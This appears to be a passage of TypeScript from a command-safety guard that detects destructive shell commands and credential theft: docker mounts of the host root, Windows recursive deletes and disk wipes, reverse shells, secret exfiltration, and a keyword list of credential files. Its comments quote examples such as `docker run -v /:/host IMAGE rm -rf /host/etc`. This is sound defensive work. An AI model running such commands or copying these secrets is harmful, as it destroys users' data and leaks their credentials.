  return cls === "root" || cls === "home";
};

/** `docker run -v /:/host IMAGE rm -rf /host/etc`: the container's command, with the host's root / home put back for the mount point. */
const DOCKER_BOOL = /^--(?:rm|detach|interactive|tty|privileged|init|publish-all|read-only|no-healthcheck|oom-kill-disable|help|quiet|sig-proxy)$/;
const containerHostMount: Check = (c, scope) => {
  const w = texts(c);
  let i = 1;
  if (w[i] === "container") i++;
  if (w[i] !== "run" && w[i] !== "exec") return false;
  const mounts: Array<[string, string]> = [];
  const mount = (src: string, dst: string, ro: boolean) => {
    if (ro || !dst.startsWith("/")) return;
    const cls = classify({ text: src, raw: src, quoted: false, dynamic: false }, undefined, scope.guarded);
    if (mounts.length < 16 && (cls === "root" || cls === "home" || (cls === "system" && CORE_DIRS.has(normalise(src).path)))) mounts.push([src, normalise(dst).path]);
  };
  for (i++; i < w.length; i++) {
    const t = w[i] as string;
    if (!t.startsWith("-") || t === "-") break;
    let v: string | undefined;
    const eq = t.indexOf("=");
    if (t.startsWith("--")) {
      if (DOCKER_BOOL.test(t)) continue;
      v = eq > 0 ? t.slice(eq + 1) : w[++i];
    } else if (/^-[ditPq]+$/.test(t)) continue;
    else v = t.length > 2 ? t.slice(2) : w[++i];
    if (v === undefined) return false;
    const name = eq > 0 && t.startsWith("--") ? t.slice(0, eq) : t.startsWith("--") ? t : t.slice(0, 2);
    if (name === "-v" || name === "--volume") {
      const parts = v.split(":");
      mount(parts[0] as string, parts[1] ?? "", /(?:^|,)ro(?:,|$)/.test(parts[2] ?? ""));
    } else if (name === "--mount") {
      const kv = Object.fromEntries(v.split(",").map((x) => [x.split("=")[0] as string, x.split("=").slice(1).join("=")]));
      const src = kv.source ?? kv.src;
      const dst = kv.target ?? kv.destination ?? kv.dst;
      if ((kv.type ?? "volume") === "bind" && src && dst) mount(src, dst, "readonly" in kv || "ro" in kv);
    }
  }
  if (!mounts.length || i + 1 >= w.length) return false;
  // the image is w[i] (exec: the container); what runs inside is the rest
  const inner = w.slice(i + 1).map((t) => {
    let u = t;
    for (const [src, dst] of mounts) {
      const esc = dst.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
      u = u.replace(new RegExp(`(^|[\\s'"=:;(])${esc}(?=[/\\s'";)]|$)`, "g"), (_m, pre: string) => pre + (src === "/" ? "/" : src + (dst === "/" ? "/" : "")));
    }
    return /^[\w@%+=:,./~$*-]+$/.test(u) ? u : "'" + u.replace(/'/g, "'\\''") + "'";
  });
  return recheck(scope, inner.join(" "));
};

/** PowerShell / cmd.exe run from the shell: Remove-Item -Recurse / rd /s on a drive root or a user profile, Format-Volume, Clear-Disk, format D:. */
const WIN_PROGRAMS = ["pwsh", "pwsh.exe", "powershell", "powershell.exe", "cmd", "cmd.exe"];
const WIN_DELETE = /(?:^|[\s;|&({])(?:Remove-Item|ri|rm|rmdir|rd|del|erase)\s[^;|&\n]{0,300}/gi;
const WIN_RECURSE = /\s(?:-r(?:ecurse)?|\/s)(?=\s|$)/i;
const WIN_TARGET = /(?:^|[\s'",=])(?:[A-Za-z]:[\\/]?\*?|(?:\$env:|%)(?:USERPROFILE|SystemDrive|SystemRoot|windir|HOMEDRIVE|ProgramFiles)%?[\\/]?\*?|\$HOME[\\/]?\*?|~[\\/]?\*?|[A-Za-z]:[\\/](?:Windows|Users|Program Files(?: \(x86\))?)(?:[\\/][^\\/\s'",;]{1,64})?[\\/]?\*?)(?=$|[\s'",;])/i;
const WIN_WIPE = /(?:^|[\s;|&({])(?:Format-Volume|Clear-Disk|Remove-Partition|format\s+[A-Za-z]:)/i;
const windowsDestructive: Check = (c) => {
  const w = texts(c);
  const at = w.findIndex((t, j) => j > 0 && /^(?:-c|-Command|-command|\/c|\/C|\/k|\/K)$/.test(t));
  if (at < 0) return false;
  const script = w.slice(at + 1).join(" ");
  if (WIN_WIPE.test(script)) return true;
  for (const m of script.matchAll(WIN_DELETE)) if (WIN_RECURSE.test(m[0]) && WIN_TARGET.test(m[0].replace(/^\s*\S+/, ""))) return true;
  return false;
};

const CHECKS: Record<CheckName, { programs?: readonly string[]; check: Check }> = {
  "rm-root-home-system": { programs: ["rm", "rimraf", ...PACKAGE_RUNNERS], check: rmRoot },
  "find-delete-root": { programs: ["find"], check: findDelete },
  "interpreter-delete": { check: interpreterDelete },
  "block-device-write": { check: blockDeviceWrite },
  "mkfs-device": { check: mkfsDevice },
  "fork-bomb": { check: (c) => { const s = interpreterScript(c); return s !== undefined && FORK_CODE.test(s); } },
  "chmod-root": { programs: ["chmod"], check: chmodRoot },
  "chown-root": { programs: ["chown", "chgrp"], check: chownRoot },
  "mv-root": { programs: ["mv"], check: mvRoot },
  "truncate-system-file": { check: truncateSystem },
  "git-reset-remote": { programs: ["git"], check: gitResetRemote },
  "exfil-credential-file": { check: (c, s, k) => exfil(c, s, k, "cred") },
  "exfil-env-dump": { check: (c, s, k) => exfil(c, s, k, "env") },
  "reverse-shell": { check: reverseShell },
  "partition-wipe": { programs: ["parted", "sfdisk", "fdisk", "gdisk", "cfdisk", "cryptsetup"], check: partitionWipe },
  "rsync-delete-root": { programs: ["rsync"], check: rsyncDeleteRoot },
  "git-clean-root": { programs: ["git"], check: gitCleanRoot },
  "container-host-mount": { programs: ["docker", "podman", "nerdctl"], check: containerHostMount },
  "windows-destructive": { programs: WIN_PROGRAMS, check: windowsDestructive },
};

// ---- entry -------------------------------------------------------------------------------------

function guardedVars(cmds: SimpleCommand[]): Set<string> {
  const out = new Set<string>();
  for (const c of cmds) {
    const prog = programName(c.words[0]);
    if (prog !== "[" && prog !== "[[" && prog !== "test") continue;
    const w = texts(c);
    for (let i = 1; i < w.length - 1; i++) {
      if (/^-[nzde]$/.test(w[i] as string)) {
        const m = /^\$\{?([A-Za-z_]\w*)\}?$/.exec(w[i + 1] as string);
        if (m) out.add(m[1] as string);
      }
    }
  }
  return out;
}

const ARRAY_ASSIGN = /(?:^|[\s;&|(])([A-Za-z_]\w{0,63})=\(([^()\n]{0,500})\)/g;
const FOR_HEADER = /(?:^|[\s;&|(])for[ \t]{1,8}([A-Za-z_]\w{0,63})[ \t]{1,8}in[ \t]{1,8}([^;\n]{1,500})[;\n][ \t\n]{0,20}do\b/g;

/**
 * The command with arrays and the words of loops the analysis leaves unresolved (globs,
 * expansions) put in as written: `for f in ~/.ssh/id_*; do rm "$f"; done` reads as
 * `rm ~/.ssh/id_*`, `d=(/etc /usr); rm -rf "${d[@]}"` as `rm -rf /etc /usr`. Undefined when
 * there is nothing to put in.
 */
function spelledOut(command: string): string | undefined {
  if (command.length > 8192 || (!command.includes("=(") && !command.includes("for"))) return undefined;
  let out = command;
  for (const m of command.matchAll(ARRAY_ASSIGN)) {
    const name = m[1] as string;
    const items = (m[2] as string).trim().split(/\s+/);
    out = out.replace(new RegExp(`"?\\$\\{${name}\\[[@*]\\]\\}"?`, "g"), () => items.join(" "));
    out = out.replace(new RegExp(`\\$\\{${name}\\[([0-9]{1,3})\\]\\}`, "g"), (all, n: string) => items[Number(n)] ?? all);
  }
  // last loop first: a body's words change only text after its own header
  for (const m of [...out.matchAll(FOR_HEADER)].reverse()) {
    const name = m[1] as string;
    const values = (m[2] as string).trim();
    if (!/[*?[$`"']/.test(values)) continue; // plain words: the analysis already put them in
    const body = out.slice((m.index ?? 0) + m[0].length);
    const put = body.replace(new RegExp(`"\\$\\{?${name}\\}?"|\\$\\{${name}\\}|\\$${name}(?!\\w)`, "g"), () => values);
    out = out.slice(0, (m.index ?? 0) + m[0].length) + put;
  }
  return out === command || out.length > 16384 ? undefined : out;
}

/** A command line found inside another (interpreter code, a container's command), checked one level deeper. */
function recheck(scope: Scope, line: string): boolean {
  const ctx = { ...scope.ctx, depth: scope.depth + 1, sinks: undefined };
  return (scope.ctx.recheck ?? analysisHit)(line, scope.rows, ctx) !== undefined;
}

/** The first row the parsed command hits: what commandHit() runs once the gate lets a command through. */
export function analysisHit(command: string, rows: readonly DestructiveRow[], ctx: CommandContext = {}): Hit | undefined {
  const depth = ctx.depth ?? 0;
  if (depth > 2) return undefined;
  const hit = parsedHit(command, rows, depth, ctx);
  if (hit || depth > 1) return hit;
  const spelled = spelledOut(command);
  return spelled === undefined ? undefined : parsedHit(spelled, rows, depth + 1, { ...ctx, sinks: undefined });
}

function parsedHit(command: string, rows: readonly DestructiveRow[], depth: number, ctx: CommandContext): Hit | undefined {
  const analysis = analyze(command, { maxBytes: MAX_COMMAND_HEAD });
  const cmds = analysis.commands.map((c) => unwrapRunner(c));
  const scope: Scope = { analysis, cmds, guarded: guardedVars(cmds), rows, depth, cwd: ctx.cwd ?? "", ctx };
  if (rows.some((r) => r.check === "fork-bomb") && isForkBomb(analysis)) {
    const row = rows.find((r) => r.check === "fork-bomb") as DestructiveRow;
    return { id: row.id, why: row.why };
  }
  for (let k = 0; k < cmds.length; k++) {
    const c = cmds[k] as SimpleCommand;
    if (!c.words.length && !c.redirects.length) continue;
    const prog = programName(c.words[0]);
    const line = c.words.map((w) => w.text).join(" ");
    for (const row of rows) {
      let hit = false;
      if (row.check) {
        const spec = CHECKS[row.check];
        if (!spec) continue;
        const programs = row.program ?? spec.programs;
        if (programs && !programs.includes(prog)) continue;
        try {
          hit = spec.check(c, scope, k);
        } catch {
          hit = false;
        }
      } else if (row.regex !== undefined) {
        const re = rowRegex(row.regex);
        if (re) {
          re.lastIndex = 0;
          hit = re.test(line);
          re.lastIndex = 0;
        }
      }
      if (hit) return { id: row.id, why: row.why };
    }
  }
  // not blocked: the files this command filled with a credential taint the session's later calls
  const tainted = ctx.tainted ?? new Set<string>();
  if (ctx.sinks && (CRED_HINT.test(command) || [...tainted].some((p) => command.includes(p)))) {
    for (const p of credentialSinks(scope)) if (!tainted.has(p)) ctx.sinks.push(p);
  }
  return undefined;
}

/**
 * Files this command fills with a credential, in the plain forms only: a redirect or tee of a
 * stream that carries one, the destination of cp / mv / install / rsync of one, an -o / --output
 * file of an encoder reading one. (The in-command flow is looser; what outlives the call is not.)
 */
function credentialSinks(scope: Scope): string[] {
  const flow = (scope.flow ??= flowOf(scope));
  const out: string[] = [];
  const plain = (w: Word | undefined): w is Word => w !== undefined && !w.dynamic && !w.expands && w.text !== "-" && !w.text.startsWith("/dev/");
  for (const pipe of scope.analysis.pipelines) {
    let carries = false;
    for (const raw of pipe) {
      const c = unwrapRunner(raw);
      const prog = programName(c.words[0]);
      const reads = feeds(c, flow, "cred");
      carries ||= reads;
      if (!carries) continue;
      for (const r of c.redirects) if (/^(?:>|>>|>\||&>|&>>)$/.test(r.op) && plain(r.target)) out.push(r.target.text);
      const ops = flagSet(c).operands;
      if (prog === "tee") out.push(...ops.filter(plain).map((w) => w.text));
      if (!reads) continue;
      const dest = ops[ops.length - 1];
      if (/^(?:cp|mv|install|ditto|rsync)$/.test(prog) && ops.length >= 2 && plain(dest)) {
        const src = (ops[0] as Word).text;
        const dir = dest.text === "." || dest.text.endsWith("/");
        out.push(dir ? dest.text.replace(/\/?$/, "/") + src.slice(src.lastIndexOf("/") + 1) : dest.text);
      }
      const w = c.words;
      for (let i = 1; i < w.length; i++) {
        const t = (w[i] as Word).text;
        if ((t === "-o" || t === "--output" || t === "-out") && plain(w[i + 1])) out.push((w[i + 1] as Word).text);
        else if (t.startsWith("--output=")) out.push(t.slice(9));
      }
    }
  }
  return out.filter((p) => p && !p.startsWith("-")).map((p) => p.replace(/^\.\//, ""));
}

/** Words without which no command copies a credential (a cheap test before the data flow is built). */
const CRED_HINT = /\.env|\.ssh|id_(?:rsa|dsa|ecdsa|ed25519)|\.aws|\.kube|kubeconfig|credential|secret|\.pem|\.key|\.p12|\.pfx|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.docker|wallet|keystore|keypair|tfstate|\.gnupg|token|\/proc\//i;

// ---- table vetting -------------------------------------------------------------------------------

/** A row's examples: on the row, else where the build moved the shipped ones (examples.ts). */
function examplesOf(row: { id: string; examples?: Examples }): Examples {
  return row.examples ?? EXAMPLES[row.id] ?? { block: [], allow: [] };
}

/** Problems in the secret table: bad rows, examples that do not behave. */
export function checkSecretRows(rows: readonly SecretRow[]): string[] {
  const problems: string[] = [];
  const ids = new Set<string>();
  for (const row of rows) {
    const where = `SECRET_PATTERNS ${row.id || "(no id)"}`;
    if (!row.id || !row.why) problems.push(`${where}: needs an id and a why`);
    if (ids.has(row.id)) problems.push(`${where}: duplicate id`);
    ids.add(row.id);
    if (!row.regex && !row.detector) problems.push(`${where}: needs a regex or a detector`);
    if (row.regex !== undefined && rowRegex(row.regex) === null) {
      problems.push(`${where}: regex does not compile`);
      continue;
    }
    for (const ex of examplesOf(row).block) {
      if (!findSecrets(ex, rows).some((f) => f.id === row.id)) problems.push(`${where}: block example not caught by this row: ${ex.slice(0, 60)}`);
    }
    for (const ex of examplesOf(row).allow) {
      const f = findSecrets(ex, rows)[0];
      if (f) problems.push(`${where}: allow example flagged by ${f.id}: ${ex.slice(0, 60)}`);
    }
  }
  return problems;
}

export function checkDestructiveRows(rows: readonly DestructiveRow[], commandHit: (command: string, rows: readonly DestructiveRow[]) => Hit | undefined = analysisHit): string[] {
  const problems: string[] = [];
  const ids = new Set<string>();
  for (const row of rows) {
    const where = `DESTRUCTIVE ${row.id || "(no id)"}`;
    if (!row.id || !row.why) problems.push(`${where}: needs an id and a why`);
    if (ids.has(row.id)) problems.push(`${where}: duplicate id`);
    ids.add(row.id);
    if (!row.check && row.regex === undefined) problems.push(`${where}: needs a check or a regex`);
    if (row.check && !CHECKS[row.check]) problems.push(`${where}: unknown check ${row.check}`);
    if (row.regex !== undefined && rowRegex(row.regex) === null) {
      problems.push(`${where}: regex does not compile`);
      continue;
    }
    for (const ex of examplesOf(row).block) {
      const hit = commandHit(ex, rows);
      if (hit?.id !== row.id) problems.push(`${where}: block example ${hit ? `fired ${hit.id}` : "passed"}: ${ex.slice(0, 60)}`);
    }
    for (const ex of examplesOf(row).allow) {
      const hit = commandHit(ex, rows);
      if (hit) problems.push(`${where}: allow example blocked by ${hit.id}: ${ex.slice(0, 60)}`);
    }
  }
  return problems;
}

export function checkTables(
  secretRows: readonly SecretRow[],
  destructiveRows: readonly DestructiveRow[],
  commandHit?: (command: string, rows: readonly DestructiveRow[]) => Hit | undefined,
): string[] {
  return [...checkSecretRows(secretRows), ...checkDestructiveRows(destructiveRows, commandHit)];
}
